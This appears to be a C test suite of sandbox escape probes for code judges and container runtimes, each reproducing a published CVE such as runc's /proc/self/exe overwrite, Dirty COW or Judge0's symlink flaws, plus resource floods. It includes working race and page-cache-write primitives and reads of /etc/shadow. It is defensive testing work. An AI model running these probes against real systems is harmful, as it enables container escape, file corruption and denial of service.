/* Published escapes from judges, runners, container engines and sandboxes. The comment before each attack names the
 * software that was attacked. */
#include "kit.h"
#include <sys/epoll.h>
#include <sys/mount.h>
#include <sys/prctl.h>
#include <sys/uio.h>

static const char *const box_names[] = {"main",       "main.c",     "main.py",    "Main.java",  "run",         "run.sh",
                                        "run_script", "compile.sh", "compile",    "stdin",      "stdout",      "stderr",
                                        "stdin.txt",  "a.out",      "output.txt", "res.txt",    "__init__.py", "metadata.txt",
                                        "main.class", "out",        ".env",       "output.s"};

/* argv[0]: a host file. Judge0, CVE-2024-28185: a symbolic link at the path that the runner writes next. CMS issue 376,
 * go-judge issue 176, Compiler Explorer issue 6026: a link at a path that the runner reads. Creates links with every
 * name that a runner could use. */
ATTACK(links_by_every_name) {
  for (unsigned i = 0; i < sizeof box_names / sizeof *box_names; i++)
    symlink(argv[0], box_names[i]);
  mkdir("sub", 0777);
  symlink(argv[0], "sub/main");
  symlink("/", "root");
  symlink("/proc/self/fd/0", "input");
  symlink("/proc/1/root", "init");
  symlink("/dev/stdin", "device");
  symlink("../../../../../..", "up");
  return write_file("honest", "honest\n");
}

/* Judge0, CVE-2024-28189: the runner changed the owner of everything in the box, and followed links to their targets.
 * Here the box contains links; the owner of their targets must not change. */
ATTACK(links_for_the_sweeper) {
  mkdir("box", 0777);
  for (unsigned i = 0; i < sizeof box_names / sizeof *box_names; i++) {
    char path[64];
    sprintf(path, "box/%s", box_names[i]);
    symlink(argv[0], path);
  }
  TRY("hard link", link(argv[0], "box/hard"));
  TRY("chown through a link", chown("box/main", 1000, 1000));
  TRY("chmod through a link", chmod("box/main", 0666));
  TRY("rename /box", rename("/box", "/tmp/box"));
  return 0;
}

/* Firejail CVE-2021-26910, runc CVE-2021-30465: a directory is replaced by a link between check and use. */
ATTACK(swap_directory_and_link) {
  mkdir("d", 0777);
  write_file("d/passwd", "honest\n");
  symlink("/etc", "l");
  if (fork() == 0) {
    setsid();
    for (;;)
      syscall(SYS_renameat2, AT_FDCWD, "d", AT_FDCWD, "l", 2 /* RENAME_EXCHANGE */);
  }
  usleep(3000);
  return 0;
}

/* runc, CVE-2019-5736: writes into the executable that started the program, during or after its run. */
ATTACK(overwrite_the_runner) {
  TRY("/proc/self/exe", open("/proc/self/exe", O_WRONLY));
  TRY("/proc/self/exe, truncated", open("/proc/self/exe", O_RDWR | O_TRUNC));
  int found = 0;
  for (int pid = 1; pid < 400; pid++) {
    char path[64];
    if (pid == getpid())
      continue;
    sprintf(path, "/proc/%d/exe", pid);
    found += open(path, O_PATH) >= 0 || access(path, F_OK) == 0;
  }
  dprintf(1, "executables of others: %d\n", found);
  /* Circumvents ETXTBSY: keeps an O_PATH descriptor and reopens it for writing once no process executes the file. */
  int held = open("/proc/self/exe", O_PATH);
  char again[64];
  sprintf(again, "/proc/self/fd/%d", held);
  TRY("again by descriptor", open(again, O_WRONLY));
  return 0;
}

/* runc, CVE-2024-21626: the runner leaves a host directory open, or leaves it as the working directory. */
ATTACK(leaked_directories) {
  static const char *const ways[] = {"/proc/self/fd/%d/..", "/proc/self/fd/%d/../../../../..", "/proc/thread-self/fd/%d", "/dev/fd/%d/.."};
  int entered = 0;
  for (int fd = 0; fd < 1024; fd++)
    for (unsigned i = 0; i < sizeof ways / sizeof *ways; i++) {
      char path[64];
      sprintf(path, ways[i], fd);
      entered += chdir(path) == 0;
      entered += open(path, O_PATH | O_DIRECTORY) >= 0;
    }
  dprintf(1, "directories by descriptor: %d\n", entered);
  char cwd[PATH_MAX] = "?";
  readlink("/proc/self/cwd", cwd, sizeof cwd);
  dprintf(1, "working directory: %.4s\n", cwd);
  TRY("parent's working directory", open("/proc/1/cwd/../../etc/shadow", O_RDONLY));
  TRY("own root's parent", open("/proc/self/root/../etc/shadow", O_RDONLY));
  return 0;
}

/* Container engines, CVE-2022-0492 and earlier variants: the kernel starts the attacker's program as release agent of a
 * control group. */
ATTACK(release_agent) {
  mkdir("g", 0755);
  TRY("mount cgroup", mount("cgroup", "g", "cgroup", 0, "memory"));
  TRY("mount a new hierarchy", mount("cgroup", "g", "cgroup", 0, "none,name=escape"));
  TRY("mount cgroup2", mount("cgroup2", "g", "cgroup2", 0, NULL));
  TRY("fsopen", syscall(SYS_fsopen, "cgroup", 0));
  TRY("user and cgroup namespace", unshare(0x10000000 | 0x02000000));
  static const char *const paths[] = {"/sys/fs/cgroup/release_agent", "/sys/fs/cgroup/memory/release_agent", "g/release_agent",
                                      "/sys/fs/cgroup/cgroup.procs", "/proc/1/cgroup", "/proc/cgroups"};
  for (unsigned i = 0; i < sizeof paths / sizeof *paths; i++)
    TRY(paths[i], open(paths[i], O_WRONLY));
  return 0;
}

/* nsjail issue 199 and many more: files that make the kernel execute a program, or stop the machine. */
ATTACK(kernel_helpers) {
  static const char *const paths[] = {
      "/proc/sys/kernel/core_pattern", "/proc/sys/kernel/modprobe", "/proc/sys/kernel/hotplug", "/proc/sys/kernel/poweroff_cmd",
      "/proc/sys/fs/binfmt_misc/register", "/proc/sys/vm/panic_on_oom", "/proc/sys/kernel/ns_last_pid", "/proc/sys/user/max_user_namespaces",
      "/proc/sysrq-trigger", "/proc/kcore", "/proc/kallsyms", "/proc/timer_list", "/proc/sched_debug", "/proc/keys", "/proc/acpi",
      "/proc/bus/pci", "/proc/mtrr", "/proc/driver", "/proc/irq/default_smp_affinity", "/proc/latency_stats", "/sys/kernel/uevent_helper",
      "/sys/kernel/debug", "/sys/kernel/security", "/sys/kernel/vmcoreinfo", "/sys/firmware", "/sys/power/state", "/sys/class/mem",
      "/dev/mem", "/dev/port", "/dev/kmsg", "/dev/userfaultfd", "/dev/fuse", "/dev/cpu_dma_latency", "/dev/shm/../mem"};
  int there = 0;
  for (unsigned i = 0; i < sizeof paths / sizeof *paths; i++)
    for (int mode = O_RDONLY; mode <= O_RDWR; mode++)
      if (open(paths[i], mode) >= 0 || errno != ENOENT) {
        say(paths[i], -1);
        there++;
      }
  dprintf(1, "files found: %d\n", there);
  return 0;
}

/* Memory through /proc: a child's, the init's, and the program's own read-only memory. */
ATTACK(memory_through_proc) {
  char path[64];
  static char here = 'h';
  int child = fork();
  if (child == 0) {
    pause();
    _exit(0);
  }
  sprintf(path, "/proc/%d/mem", child);
  TRY("write a child's memory", open(path, O_RDWR));
  TRY("write its own memory", open("/proc/self/mem", O_RDWR));
  sprintf(path, "/proc/self/task/%d/mem", getpid());
  TRY("write its own memory by thread", open(path, O_WRONLY));
  TRY("read the parent's memory", open("/proc/1/mem", O_RDONLY));
  struct iovec local = {&here, 1}, remote = {&here, 1};
  TRY("process_vm_writev to init", process_vm_writev(1, &local, 1, &remote, 1, 0));
  TRY("process_vm_writev to a child", process_vm_writev(child, &local, 1, &remote, 1, 0));
  TRY("robust list of init", syscall(SYS_get_robust_list, 1, &(void *){0}, &(size_t){0}));
  kill(child, SIGKILL);
  return 0;
}

/* argv[0]: a file that the program may read but not write. CVE-2022-0847 (pipe flags), the older vmsplice variant,
 * CVE-2016-5195 (copy on write). All lanes and the host share the page cache of a toolchain's file. */
static volatile int racing = 1;
static void *advise(void *at) {
  while (racing)
    madvise(at, 4096, MADV_DONTNEED);
  return at;
}
ATTACK(write_the_page_cache) {
  char before[4096], after[4096];
  int fd = open(argv[0], O_RDONLY), ends[2];
  pread(fd, before, sizeof before, 0);
  pipe(ends);
  int size = fcntl(ends[1], F_GETPIPE_SZ);
  for (int left = size; left > 0; left -= 4096)
    write(ends[1], after, left > 4096 ? 4096 : left);
  for (int left = size; left > 0; left -= 4096)
    read(ends[0], after, 4096);
  off_t at = 0;
  TRY("splice", splice(fd, &at, ends[1], NULL, 1, 0));
  TRY("write after it", write(ends[1], "cupel", 5));
  struct iovec block = {before, sizeof before};
  TRY("vmsplice", vmsplice(ends[1], &block, 1, 1));
  char *shared = mmap(NULL, 4096, PROT_READ, MAP_SHARED, fd, 0), *map = mmap(NULL, 4096, PROT_READ, MAP_PRIVATE, fd, 0);
  TRY("writable afterwards", mprotect(shared, 4096, PROT_READ | PROT_WRITE));
  pthread_t thread;
  pthread_create(&thread, NULL, advise, map);
  int mem = open("/proc/self/mem", O_RDWR);
  say("own memory by name", mem);
  for (int i = 0; i < 2000; i++)
    pwrite(mem, "cupel", 5, (off_t)map);
  racing = 0;
  pthread_join(thread, NULL);
  pread(fd, after, sizeof after, 0);
  dprintf(1, "changed: %s\n", memcmp(before, after, sizeof before) ? "yes" : "no");
  return 0;
}

/* CVE-2022-1015, CVE-2023-32233, CVE-2024-1086 and similar: packet filters in a network namespace of the attacker. */
ATTACK(packet_filters) {
  TRY("user and net namespace", unshare(0x10000000 | 0x40000000));
  TRY("netfilter socket", socket(AF_NETLINK, SOCK_RAW, 12));
  TRY("route socket", socket(AF_NETLINK, SOCK_RAW, 0));
  TRY("raw socket", socket(AF_INET, SOCK_RAW, 255));
  TRY("packet socket", socket(AF_PACKET, SOCK_RAW, 0x300));
  int s = socket(AF_UNIX, SOCK_STREAM, 0);
  TRY("iptables by another socket", setsockopt(s, 0, 64, "x", 1));
  char request[64] = "lo";
  request[16] = 1;
  TRY("loopback up", ioctl(s, 0x8914 /* SIOCSIFFLAGS */, request));
  TRY("bridge", ioctl(s, 0x89a0 /* SIOCBRADDBR */, "br0"));
  /* A module handles this request, and the kernel loads it for any caller. */
  TRY("virtual network", ioctl(s, 0x8982 /* SIOCGIFVLAN */, request));
  return 0;
}

/* Tries every protocol family except one, because each family is more kernel code to attack. */
ATTACK(every_family) {
  int unexpected = 0;
  for (int family = 0; family < 64; family++)
    for (int type = 1; family != AF_UNIX && type < 7; type++)
      for (int protocol = 0; protocol < 3; protocol++) {
        errno = 0;
        unexpected += socket(family, type, protocol) >= 0 || errno != EAFNOSUPPORT;
        unexpected += socketpair(family, type, protocol, (int[2]){0}) >= 0 || errno != EAFNOSUPPORT;
      }
  dprintf(1, "not refused: %d\n", unexpected);
  return 0;
}

/* Unusual executables: files of an unknown format, for which an old kernel loads a module, and scripts whose
 * interpreter is not the tenant's (the attack on runc used #!/proc/self/exe). argv[0]: a host file. */
ATTACK(interpreters) {
  static const char *const lines[] = {"\xff\xff\xff\xff unknown", "#!/etc/shadow\n", "#!/proc/1/exe\n", "#!/dev/null\n", "#!/box/script\n", "#!/etc/passwd\n",
                                      "#!/proc/self/fd/0\n", "#!\n", "\x7f" "ELF", ""};
  char first[PATH_MAX + 4];
  for (unsigned i = 0; i <= sizeof lines / sizeof *lines; i++) {
    snprintf(first, sizeof first, "#!%s\n", argv[0]);
    write_file("script", i < sizeof lines / sizeof *lines ? lines[i] : first);
    chmod("script", 0755);
    char *const args[] = {"script", NULL}, *const none[] = {NULL};
    char what[40];
    snprintf(what, sizeof what, "format %u", i);
    TRY(what, execve("/box/script", args, none));
  }
  return 0;
}

/* bubblewrap CVE-2017-5226, Firejail CVE-2022-31214, Piston issues 206 and 62, gVisor's shmctl, and related interfaces:
 * one request each that affects processes of another user. */
ATTACK(interfaces_to_other_users) {
  TRY("type into init's terminal", open("/proc/1/fd/0", O_WRONLY));
  TRY("join init's namespaces", setns(syscall(SYS_pidfd_open, 1, 0), 0x20000000));
  TRY("descriptor of init", syscall(SYS_pidfd_getfd, syscall(SYS_pidfd_open, 1, 0), 0, 0));
  TRY("scheduling of init", syscall(SYS_sched_setattr, 1, (uint32_t[12]){48}, 0));
  TRY("priority of all processes of a user", setpriority(PRIO_USER, 0, 5));
  TRY("session of init", setpgid(1, 0));
  TRY("end of init's memory", syscall(448 /* process_mrelease */, 3, 0));
  int s[2];
  socketpair(AF_UNIX, SOCK_DGRAM, 0, s);
  struct { pid_t pid; uid_t uid; gid_t gid; } root = {1, 0, 0};
  char control[CMSG_SPACE(sizeof root)] = {0}, byte = 'x';
  struct iovec data = {&byte, 1};
  struct msghdr message = {.msg_iov = &data, .msg_iovlen = 1, .msg_control = control, .msg_controllen = sizeof control};
  struct cmsghdr *c = CMSG_FIRSTHDR(&message);
  c->cmsg_level = SOL_SOCKET;
  c->cmsg_type = 2; /* SCM_CREDENTIALS */
  c->cmsg_len = CMSG_LEN(sizeof root);
  memcpy(CMSG_DATA(c), &root, sizeof root);
  TRY("credentials of root", sendmsg(s[0], &message, 0));
  TRY("larger buffers than allowed", setsockopt(s[0], SOL_SOCKET, 32 /* SO_SNDBUFFORCE */, &(int){1 << 30}, 4));
  TRY("a BPF program on a socket", setsockopt(s[0], SOL_SOCKET, 50 /* SO_ATTACH_BPF */, &(int){0}, 4));
  return 0;
}

/* Requests to file systems and devices that only an administrator may make. */
ATTACK(device_requests) {
  int usr = open("/usr", O_RDONLY), own = open("own", O_RDWR | O_CREAT, 0644), random = open("/dev/urandom", O_RDWR);
  TRY("freeze the host's disk", ioctl(usr, 0xC0045877 /* FIFREEZE */, 0));
  TRY("trim the host's disk", ioctl(usr, 0xC0185879 /* FITRIM */, (uint64_t[3]){0, -1, 0}));
  TRY("immutable host's file", ioctl(usr, 0x40086602 /* FS_IOC_SETFLAGS */, &(int){0x10}));
  TRY("immutable own file", ioctl(own, 0x40086602, &(int){0x10}));
  TRY("add entropy", ioctl(random, 0x40085203 /* RNDADDENTROPY */, (int[3]){8, 1, 0}));
  TRY("clear entropy", ioctl(random, 0x5206 /* RNDCLEARPOOL */));
  TRY("parent of the user namespace", ioctl(open("/proc/self/ns/user", O_RDONLY), 0xb702 /* NS_GET_PARENT */));
  TRY("parent of the pid namespace", ioctl(open("/proc/self/ns/pid", O_RDONLY), 0xb702));
  return 0;
}

static void ask(const char *what, int fd, unsigned long request) {
  static _Alignas(8) char answer[1 << 16];
  memset(answer, 0, sizeof answer);
  ((uint64_t *)answer)[1] = -1ULL; /* the length of FIEMAP's range */
  ((uint32_t *)answer)[6] = 16;    /* how many extents there is room for */
  TRY(what, ioctl(fd, request, answer));
}

/* Requests that reveal a file's location on the host's disk, and other file requests. argv[0]: a large host file. */
ATTACK(file_requests) {
  int large = open(argv[0], O_RDONLY), usr = open("/usr", O_RDONLY), own = open("own", O_RDWR | O_CREAT, 0644), ends[2];
  pipe(ends);
  ask("FIEMAP", large, 0xC020660B);
  ask("GETFSMAP", usr, 0xC0C0583B);
  ask("FIBMAP", large, 1);
  ask("FIGETBSZ", large, 2);
  ask("FS_IOC_GETFLAGS", large, 0x80086601);
  ask("FS_IOC_GETVERSION", large, 0x80087601);
  ask("FS_IOC_FSGETXATTR", large, 0x801C581F);
  ask("FS_IOC_GETFSUUID", usr, 0x80111500);
  ask("FS_IOC_GETFSSYSFSPATH", usr, 0x80811501);
  ask("BTRFS_IOC_FS_INFO", usr, 0x8400941F);
  ask("FICLONE", own, 0x40049409);
  ask("GETFSMAP, upper bits set", usr, 0x1C0C0583BUL);
  /* Requests that language runtimes use. */
  ask("TCGETS", 0, 0x5401);
  ask("TIOCGWINSZ", 0, 0x5413);
  ask("FIONREAD", ends[0], 0x541B);
  ask("FIONBIO", ends[0], 0x5421);
  ask("FIOCLEX", ends[0], 0x5451);
  ask("FIONCLEX", ends[0], 0x5450);
  return 0;
}

/* BPF filters installed by the program. The kernel compiles them into pages that are charged to no group and count
 * against one budget of the whole host. Also a filter that forwards system calls to a listener. */
ATTACK(own_bpf_filters) {
  struct { unsigned short code; unsigned char jt, jf; unsigned k; } allow = {6, 0, 0, 0x7fff0000};
  struct { unsigned short len; void *filter; } program = {1, &allow};
  TRY("filter by prctl", prctl(PR_SET_SECCOMP, 2, &program));
  TRY("strict mode by prctl", prctl(PR_SET_SECCOMP, 1));
  TRY("filter by seccomp", syscall(SYS_seccomp, 1, 0, &program));
  TRY("listener by seccomp", syscall(SYS_seccomp, 1, 8, &program));
  int s = socket(AF_UNIX, SOCK_DGRAM, 0);
  static const int options[] = {26, 50, 51, 52}; /* SO_ATTACH_FILTER, _BPF, _REUSEPORT_CBPF, _REUSEPORT_EBPF */
  for (int i = 0; i < 4; i++)
    TRY("filter on a socket", setsockopt(s, SOL_SOCKET, options[i], &program, sizeof program));
  TRY("other options", setsockopt(s, SOL_SOCKET, SO_PASSCRED, &(int){1}, 4));
  return 0;
}

/* Sends more descriptors in flight than may be open. */
ATTACK(descriptors_in_flight) {
  int pair[2], sent = 0;
  char byte = 'x';
  socketpair(AF_UNIX, SOCK_STREAM, 0, pair);
  struct iovec data = {&byte, 1};
  for (; sent < 10000; sent++) {
    char control[CMSG_SPACE(16 * sizeof(int))] = {0};
    struct msghdr message = {.msg_iov = &data, .msg_iovlen = 1, .msg_control = control, .msg_controllen = sizeof control};
    struct cmsghdr *c = CMSG_FIRSTHDR(&message);
    c->cmsg_level = SOL_SOCKET;
    c->cmsg_type = SCM_RIGHTS;
    c->cmsg_len = CMSG_LEN(16 * sizeof(int));
    for (int i = 0; i < 16; i++)
      ((int *)CMSG_DATA(c))[i] = pair[i % 2];
    if (sendmsg(pair[0], &message, MSG_DONTWAIT) < 0)
      break;
  }
  say("sendmsg", -1);
  dprintf(1, "messages of 16 descriptors in flight, at most 5: %s\n", sent <= 5 ? "yes" : "no");
  return 0;
}

/* Nested epoll descriptors. */
ATTACK(nested_epoll) {
  int first = epoll_create1(0), last = first;
  struct epoll_event event = {.events = EPOLLIN};
  int depth = 0;
  for (; depth < 20; depth++) {
    int next = epoll_create1(0);
    if (epoll_ctl(next, EPOLL_CTL_ADD, last, &event) < 0)
      break;
    last = next;
  }
  say("nest deeper", -1);
  dprintf(1, "depth at most 6: %s\n", depth <= 6 ? "yes" : "no");
  TRY("a cycle", epoll_ctl(first, EPOLL_CTL_ADD, last, &event));
  return 0;
}

/* Creates timers, each with its own signal, until that fails. */
ATTACK(timer_flood) {
  timer_t timer;
  struct sigevent event = {.sigev_notify = SIGEV_SIGNAL, .sigev_signo = SIGUSR1};
  /* The errno depends on whether the machine has such a clock. */
  dprintf(1, "a timer that wakes the machine: %s\n", timer_create(CLOCK_REALTIME_ALARM, &event, &timer) < 0 ? "refused" : "OK");
  int made = 0;
  while (made < 100000 && timer_create(CLOCK_MONOTONIC, &event, &timer) == 0)
    made++;
  say("timer_create", -1);
  dprintf(1, "made: %d\n", made);
  return 0;
}

/* A device node without mknod: if the kernel allows it, renaming with RENAME_WHITEOUT leaves a device node. */
ATTACK(leave_whiteout) {
  write_file("before", "moved\n");
  if (syscall(SYS_renameat2, AT_FDCWD, "before", AT_FDCWD, "after", 4) < 0)
    unlink("before");
  else if (open("before", O_RDONLY) >= 0 || open("before", O_RDWR) >= 0)
    dprintf(1, "it can be opened\n");
  unlink("after");
  return write_file("honest", "honest\n");
}

/* A directory tree deeper than any path can name, in a box with many inodes. */
ATTACK(leave_very_deep_tree) {
  int depth = 0;
  while (depth < 5000 && mkdir("d", 0755) == 0 && chdir("d") == 0)
    depth++;
  dprintf(1, "depth: %d\n", depth);
  return 0;
}

/* Creates names of 255 bytes in deep directories, for which the kernel needs the most memory per inode. */
ATTACK(name_flood) {
  char name[256];
  int made = 0;
  memset(name, 'n', 255);
  name[255] = 0;
  for (; made < 5000; made++) {
    sprintf(name + 240, "%015d", made);
    if (mkdir(name, 0755) < 0 || chdir(name) < 0)
      break;
  }
  say("make", -1);
  dprintf(1, "made: %d\n", made);
  return 0;
}

/* Special kinds of memory: huge pages, pages merged with other processes' pages, secret memory, poisoned pages. */
ATTACK(special_memory) {
  char *page = mmap(NULL, 1 << 21, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
  TRY("huge pages", mmap(NULL, 1 << 21, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS | 0x40000, -1, 0) == MAP_FAILED ? -1 : 0);
  TRY("huge memory file", memfd_create("x", 4));
  TRY("huge segment", syscall(SYS_shmget, 0, 1 << 21, 04000 | 01600));
  TRY("merge equal pages", madvise(page, 4096, 12 /* MADV_MERGEABLE */));
  TRY("merge all memory", prctl(67 /* PR_SET_MEMORY_MERGE */, 1, 0, 0, 0));
  TRY("secret memory", syscall(447 /* memfd_secret */, 0));
  /* EINVAL if the kernel lacks the feature, EPERM otherwise. */
  dprintf(1, "poison: %s\n", madvise(page, 4096, 100 /* MADV_HWPOISON */) == 0 || madvise(page, 4096, 101) == 0 ? "OK" : "refused");
  return 0;
}

/* CVE-2025-38236: out-of-band data between the program's own UNIX sockets. Only attacks use such data. */
ATTACK(out_of_band_data) {
  int pair[2];
  char byte;
  socketpair(AF_UNIX, SOCK_STREAM, 0, pair);
  TRY("send", send(pair[0], "x", 1, MSG_OOB));
  struct iovec data = {"x", 1};
  struct msghdr message = {.msg_iov = &data, .msg_iovlen = 1};
  TRY("sendmsg", sendmsg(pair[0], &message, MSG_OOB));
  TRY("receive", recv(pair[1], &byte, 1, MSG_OOB | MSG_DONTWAIT));
  return 0;
}

/* Kernel records that are charged to no group: memory policies of shared pages, record locks. */
ATTACK(uncharged_kernel_records) {
  struct flock lock = {.l_type = F_WRLCK, .l_start = 7, .l_len = 1};
  void *shared = mmap(NULL, 4096, PROT_READ | PROT_WRITE, MAP_SHARED | MAP_ANONYMOUS, -1, 0);
  unsigned long node = 1;
  int fd = open("/box/locked", O_RDWR | O_CREAT, 0600);
  TRY("mbind", syscall(SYS_mbind, shared, 4096, 3, &node, 8, 0));
  TRY("F_SETLK", fcntl(fd, F_SETLK, &lock));
  lock.l_pid = 0;
  TRY("F_OFD_SETLK", fcntl(fd, F_OFD_SETLK, &lock));
  int other = open("/box/locked", O_RDWR);
  TRY("F_OFD_GETLK", fcntl(other, F_OFD_GETLK, &lock));
  printf("held: %s\n", lock.l_type == F_UNLCK ? "no" : "yes");
  return 0;
}

/* Core scheduling would reserve the sibling hyperthread of a core. */
ATTACK(core_scheduling) {
  TRY("PR_SCHED_CORE_CREATE", prctl(62, 1, 0, 2, 0));
  return 0;
}

/* A program of the 32-bit ABI. Its system calls have other numbers, which are all unknown to the filter. */
ATTACK(abi_32_bit) {
#ifdef __x86_64__
  static const unsigned char program[] = {
      0x7f, 'E', 'L', 'F', 1, 1, 1, 0, 0, 0, 0, 0, 0, 0, 0, 0, 2, 0, 3, 0, 1, 0, 0, 0, 0x54, 0x80, 0x04, 0x08, 52, 0, 0, 0,
      0, 0, 0, 0, 0, 0, 0, 0, 52, 0, 32, 0, 1, 0, 0, 0, 0, 0, 0, 0, /* one segment, all of the file */
      1, 0, 0, 0, 0, 0, 0, 0, 0, 0x80, 0x04, 0x08, 0, 0x80, 0x04, 0x08, 0x70, 0, 0, 0, 0x70, 0, 0, 0, 5, 0, 0, 0, 0, 0x10, 0, 0,
      0xb8, 1, 0, 0, 0, 0xbb, 42, 0, 0, 0, 0xcd, 0x80, 0xf4, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0}; /* exit(42) */
  int fd = open("old", O_WRONLY | O_CREAT, 0755), status;
  write(fd, program, sizeof program);
  close(fd);
  int pid = fork();
  if (pid == 0) {
    execl("/box/old", "old", NULL);
    _exit(errno == ENOEXEC ? 126 : 127); /* a kernel without that ABI */
  }
  waitpid(pid, &status, 0);
  dprintf(1, "it ran: %s\n", WIFEXITED(status) && WEXITSTATUS(status) == 42 ? "yes" : "no");
  dprintf(1, "refused: %s\n", (WIFSIGNALED(status) && WTERMSIG(status) == SIGSYS) || (WIFEXITED(status) && WEXITSTATUS(status) == 126) ? "yes" : "no");
#else
  dprintf(1, "it ran: no\nrefused: yes\n");
#endif
  return 0;
}

static int child_main(void *arg) {
  for (;;)
    pause();
  return arg != NULL;
}
static void *wait_for_ever(void *arg) {
  for (;;)
    pause();
  return arg;
}
/* Creates processes in every possible way, each until it fails. */
ATTACK(forks_of_every_kind) {
  static char stacks[64][8192];
  static const struct { const char *name; int flags; } kinds[] = {
      {"fork", SIGCHLD}, {"without a signal", 0}, {"sharing memory", CLONE_VM | SIGCHLD}, {"sharing all", CLONE_VM | CLONE_FS | CLONE_FILES | CLONE_SIGHAND | SIGCHLD},
      {"as a sibling", CLONE_PARENT | SIGCHLD}};
  for (unsigned kind = 0; kind < sizeof kinds / sizeof *kinds; kind++) {
    int pids[64], made = 0;
    while (made < 64 && (pids[made] = clone(child_main, stacks[made] + 8192, kinds[kind].flags, NULL)) > 0)
      made++;
    say(kinds[kind].name, -1);
    dprintf(1, "made: %d\n", made);
    for (int i = 0; i < made; i++) {
      kill(pids[i], SIGKILL);
      waitpid(pids[i], NULL, __WALL);
    }
    /* Siblings cannot be waited for here, because init is their parent. So wait until they are gone. */
    for (int i = 0; i < made; i++)
      while (kill(pids[i], 0) == 0)
        usleep(100);
  }
  pthread_t thread;
  int made = 0;
  while (made < 64 && pthread_create(&thread, NULL, wait_for_ever, NULL) == 0)
    made++;
  dprintf(1, "threads: %d\n", made);
  return 0;
}
